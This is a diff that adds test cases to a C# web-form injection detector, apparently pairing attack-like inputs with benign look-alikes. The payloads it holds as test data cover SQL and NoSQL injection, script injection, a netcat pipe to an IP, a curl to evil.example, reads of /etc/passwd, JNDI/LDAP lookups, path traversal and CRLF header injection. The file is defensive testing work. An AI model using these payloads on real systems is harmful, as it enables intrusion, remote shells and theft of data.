@@ -208,6 +208,99 @@ public sealed class WebFormTests
     [TestCase("a=1; echo", false)]
     [TestCase("price=5; $price", true)]
     [TestCase("cost: 5; $price", false)]
+
+    // Conditions and statements, and sentences of their words.
+    [TestCase("prove that 1=1 and 0!=1", false)]
+    [TestCase("x' and 1=1 and 0!=1--", true)]
+    [TestCase("3 or 3 between 2 and 4", true)]
+    [TestCase("come at 4 or 5 between meetings", false)]
+    [TestCase("pick a plan; select 'Later' in settings", false)]
+    [TestCase("7; select 'later' from users", true)]
+    [TestCase("the query \"SELECT a FROM b WHERE id = 1\" is slow", false)]
+    [TestCase("' or \"select a from b where c = 1\"--", true)]
+    [TestCase("nick', is_admin = true where id = 7 -- ", true)]
+    [TestCase("nick', is it true, she asked", false)]
+    [TestCase("8;shutdown with nowait--", true)]
+    [TestCase("clean up; shutdown the computer", false)]
+    [TestCase("benchmark(5000) takes a second", false)]
+    [TestCase("benchmark(5000,md5(1))", true)]
+    [TestCase("group by city having count(*) > 3", false)]
+    [TestCase("group by city having 1=1--", true)]
+    [TestCase("order by 2 desc confuses readers", false)]
+    [TestCase("order by 2 desc--", true)]
+
+    // Filters of document databases, by what they leave out.
+    [TestCase("{\"at\":{\"$gte\":\"2024-01-01\",\"$lt\":\"2024-02-01\"}}", false)]
+    [TestCase("{\"state\":{\"$ne\":\"closed\"}}", false)]
+    [TestCase("{\"state\":{\"$ne\":\"1\"}}", true)]
+    [TestCase("{\"login\":{\"$ne\":\"closed\"}}", true)]
+    [TestCase("{\"a\":{\"$not\":{\"$gt\":9}}}", false)]
+    [TestCase("price[$gte]=10&price[$lte]=50", false)]
+    [TestCase("price[$gt]=0", true)]
+    [TestCase("password[$ne]=closed", true)]
+    [TestCase("email[$ne]=closed", true)]
+    [TestCase("{\"$expr\":{\"$gt\":[\"$spent\",\"$budget\"]}}", false)]
+    [TestCase("{\"$expr\":{\"$function\":{\"body\":\"x\"}}}", true)]
+    [TestCase("0;var d=new Date();do{x=1}while(1)", true)]
+    [TestCase("0;varnish", false)]
+
+    // Markup that loads and runs nothing.
+    [TestCase("<script type=\"application/ld+json\">{\"@type\":\"Person\"}</script>", false)]
+    [TestCase("<script type=\"application/ld+json\" src=\"//x/a.js\"></script>", true)]
+    [TestCase("<script type=\"text/javascript\">x()</script>", true)]
+    [TestCase("<script type=\"application/json\">{}</script><script>x()</script>", true)]
+    [TestCase("<a href=\"#\" onclick=\"return false;\">x</a>", false)]
+    [TestCase("<a href=\"#\" onclick=\"return x()\">x</a>", true)]
+    [TestCase("<a href=\"javascript:void(0)\">x</a>", false)]
+    [TestCase("<a href=\"javascript:void(0);alert(1)\">x</a>", true)]
+    [TestCase("<a href=\"javascript:void(0) || alert(1)\">x</a>", true)]
+    [TestCase("<xi:include href=\"part1.xml\"/>", false)]
+    [TestCase("<object data=\"a.pdf\" type=\"application/pdf\"></object>", false)]
+    [TestCase("<object data=\"a.html\" type=\"application/pdf\"></object>", true)]
+    [TestCase("<object data=\"//x/a.pdf\" type=\"application/pdf\"></object>", true)]
+    [TestCase("<xi:include href=\"file:///etc/passwd\"/>", true)]
+
+    // Commands behind pipes, options of Windows and remarks.
+    [TestCase("aws s3 ls s3://logs | grep 2024", false)]
+    [TestCase("x | grep root /etc/passwd", true)]
+    [TestCase("the value $(date +%F) is not replaced here", false)]
+    [TestCase("the value$(date +%F)", true)]
+    [TestCase("the value $(curl evil.example) is not replaced here", true)]
+    [TestCase("```sh\ncd app\n```", false)]
+    [TestCase("docker ps | head -5", false)]
+    [TestCase("a | nc 10.0.0.1 4444", true)]
+
+    // Names of classes that a sentence tells of, and data on things.
+    [TestCase("see java.lang.ProcessBuilder for details", false)]
+    [TestCase("new java.lang.ProcessBuilder({x}).start()", true)]
+    [TestCase("java.util.List<java.lang.String> names", false)]
+    [TestCase("{\"@type\": \"Person\"}", false)]
+    [TestCase("{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\"}", true)]
+    [TestCase("class.module.classLoader.resources=x", true)]
+    [TestCase("ldap://ldap.example.com/dc=example,dc=com", false)]
+    [TestCase("ldap://evil.example/a", true)]
+    [TestCase("${jndi} is the name", false)]
+
+    // Paths of projects and of servers.
+    [TestCase("<ProjectReference Include=\"..\\..\\src\\A\\A.csproj\" />", false)]
+    [TestCase("..\\..\\windows\\a.cs", true)]
+    [TestCase("../../../README.md#install", false)]
+    [TestCase("../../../a.ts(12,5): error", false)]
+    [TestCase("..;/manager/html", true)]
+    [TestCase("cd ../../ && npm test", false)]
+
+    // Machines by the numbers in their names, and where a login returns.
+    [TestCase("http://7f000001.c0a80001.rbndr.us/", true)]
+    [TestCase("http://0a1b2c3d.preview.example/", false)]
+    [TestCase("{\"issuer\":\"http://localhost:8080/a\"}", false)]
+    [TestCase("{\"url\":\"http://localhost:8080/a\"}", true)]
+    [TestCase("ws://localhost:8080/socket", false)]
+
+    // Breaks in escapes, and the commands of a cache.
+    [TestCase("a%0d%0aset k 0 0 1%0d%0ax", true)]
+    [TestCase("a%0d%0aset the table for 5", false)]
+    [TestCase("1 Main St%0aLocation:%20Springfield", false)]
+    [TestCase("x%0aLocation:%20//evil.example", true)]
     public void Evaluate_Form_IsAnAttackOrNot(string text, bool isAttack) =>
         Assert.That(Injection.Rules(Injection.Judge(Injection.Web, text)), isAttack ? Is.Not.Empty : Is.Empty);
 
